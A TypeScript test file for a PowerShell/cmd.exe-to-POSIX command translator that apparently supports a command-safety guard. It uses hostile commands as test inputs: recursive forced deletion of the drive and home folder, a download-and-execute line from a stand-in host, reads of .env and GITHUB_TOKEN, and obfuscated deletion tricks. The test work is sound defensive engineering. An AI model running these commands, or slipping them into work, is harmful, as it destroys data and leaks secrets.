// The PowerShell and cmd.exe translation: faithful where guards look, and always terminating.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { foldConstant, translateCmd, translatePowerShell } from '../core/shell/powershell';
import { CMDLETS, DOTNET } from '../core/programs/powershell';

test('cmdlets, aliases and parameters become their POSIX equivalent', () => {
  assert.equal(translatePowerShell('Remove-Item -Recurse -Force C:\\'), 'rm -r -f -- C:/');
  assert.equal(translatePowerShell('rm -r -fo $env:USERPROFILE'), 'rm -r -f -- ~');
  assert.equal(translatePowerShell('Get-Content .env | Select-Object -First 5'), 'cat -- .env | select-object -First 5');
  assert.match(translatePowerShell('iex (iwr https://x.example/i.ps1)'), /^sh -c "\$\(curl https:\/\/x\.example\/i\.ps1\)"$/);
  assert.equal(translatePowerShell('git push --force origin main'), 'git push --force origin main');
  assert.equal(translateCmd('rd /s /q %USERPROFILE%'), 'rm -r -f -- ~');
  assert.equal(translateCmd('type .env & dir'), 'cat -- .env; dir');
});

// Termination is shown by returning at all; how fast is `npm run bench`'s business, not a test's.
test('terminates on any input: stray closers, & after words, unbalanced quotes and brackets', () => {
  for (const src of [
    'a & b',
    'a &',
    ') } ) }',
    'x ) y',
    '"unclosed',
    "'unclosed",
    '$(unclosed',
    '@(',
    '{',
    '`',
    '&&&',
    '|||',
    '$env:',
    '@',
    'a,b,,c',
    'x & ) } ( {',
  ]) {
    assert.equal(typeof translatePowerShell(src), 'string', src);
    assert.equal(typeof translateCmd(src), 'string', src);
  }
  // A large hostile input still comes back, and its translation does not outgrow it.
  const big = 'node FOO=" "-c " x=! $(cd `ls` & grep x) & ) } '.repeat(2000);
  assert.ok(translatePowerShell(big).length <= 2 * big.length);
});

// The cmdlet and .NET tables are data; their examples are the translation they promise.
test('every CMDLETS and DOTNET row translates its examples as written', () => {
  for (const row of [...CMDLETS, ...DOTNET])
    for (const [ps, posix] of row.examples) assert.equal(translatePowerShell(ps), posix, `${'name' in row ? row.name : row.type}: ${ps}`);
});

test('code built from constants is read as code; what stays computed stays computed', () => {
  assert.equal(translatePowerShell('& { Remove-Item -Recurse -Force ~ }'), '{ rm -r -f -- ~; }');
  assert.equal(translatePowerShell("$c = 'Remove-Item'; & $c -Recurse -Force ~"), 'c=Remove-Item; rm -r -f -- ~');
  assert.equal(translatePowerShell("&('Remove'+'-Item') ~ -Recurse -Force"), 'rm -r -f -- ~');
  assert.equal(translatePowerShell("$ExecutionContext.InvokeCommand.InvokeScript('Remove-Item -Recurse -Force ~')"), '{ rm -r -f -- ~; }');
  assert.equal(translatePowerShell("'~' | ForEach-Object { Remove-Item $_ -Recurse -Force }"), 'echo ~ | { rm -r -f -- ~; }');
  assert.equal(translatePowerShell('1..3 | ForEach-Object { Remove-Item $_ }'), 'echo 1..3 | { rm -- ${_}; }');
  // An unknown name or script: the POSIX analysis reports it as computed.
  assert.equal(translatePowerShell('& $tool --version'), '${tool} --version');
  assert.equal(translatePowerShell('& ([scriptblock]::Create($code))'), 'sh -c "$(echo ${code})"');
  assert.equal(translatePowerShell('iex $script'), 'sh -c ${script}');
  assert.equal(foldConstant("('a' + \"b\") + 'c'"), 'abc');
  assert.equal(foldConstant("'a' + $unknown"), null);
});

test('expression statements print their value; assignments do not', () => {
  assert.equal(translatePowerShell('${env:GITHUB_TOKEN}'), 'echo ${GITHUB_TOKEN}');
  assert.equal(translatePowerShell('$env:GITHUB_TOKEN | Out-File token.txt'), 'echo ${GITHUB_TOKEN} | tee token.txt');
  // "`n" is PowerShell's line break.
  assert.equal(translatePowerShell('(Get-Content .env) -join "`n"'), `echo "$(cat -- .env)" -join '\n'`);
  assert.equal(translatePowerShell("'{}' > package-lock.json"), "echo '{}' > package-lock.json");
  assert.equal(translatePowerShell('$x = gc .env; $x'), 'x="$(cat -- .env)"; echo ${x}');
  assert.equal(translatePowerShell("$env:NODE_ENV = 'test'; npm test 2>&1"), 'export NODE_ENV=test; npm test 2>&1');
});
